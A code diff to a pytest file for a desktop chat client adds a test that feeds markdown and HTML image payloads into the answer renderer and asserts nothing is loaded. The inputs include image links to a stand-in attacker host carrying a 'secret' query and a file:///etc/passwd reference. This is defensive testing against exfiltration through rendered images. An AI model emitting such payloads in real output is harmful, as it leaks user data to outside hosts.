@@ -11,7 +11,7 @@ from studiolo_desktop.theme import DARK, LIGHT, contrast
 from studiolo_desktop.ui.chat.code import highlighted
 from studiolo_desktop.ui.chat.formulas import formula_html
 from studiolo_desktop.ui.chat.markdown import Inks, code_blocks, grown, to_html
-from studiolo_desktop.ui.chat.rich_text import AnswerText
+from studiolo_desktop.ui.chat.rich_text import AnswerText, SafeDocument
 
 ANSWER = """The term is **three years** [1].
 
@@ -95,6 +95,31 @@ def test_nothing_empty_stands_before_an_answer_that_is_being_written(text, begin
     text.show_markdown(f"{begins}\n\nand then", frozenset())
     whole = [text.document().findBlockByNumber(n).text() for n in range(text.document().blockCount())]
     assert grew == whole
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "![x](http://evil.example/p.png?q=secret)",
+        "![x](file:///etc/passwd)",
+        "![x](\\\\host\\share\\x.png)",
+        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+        "<img src='http://evil.example/p.png'>",
+        "$![x](http://evil.example)$ \\[<img src=x>\\]",
+        "```html\n<img src='http://evil.example/p.png'>\n```",
+    ],
+)
+def test_nothing_is_loaded_while_an_answer_grows_either(text, monkeypatch, markdown):
+    asked: list[str] = []
+    monkeypatch.setattr(SafeDocument, "loadResource", lambda self, kind, name: asked.append(str(name)))
+    text.loadResource = lambda kind, name: asked.append(str(name))
+    for end in range(1, len(markdown) + 1, 2):
+        text.show_markdown(f"Before {markdown[:end]}", frozenset(), writing=True)
+        text.grab()
+    text.show_markdown(f"Before {markdown} after", frozenset())
+    text.grab()
+    assert asked == []
+    assert "<img" not in text.toHtml()
 
 
 def test_line_ends_of_other_systems():
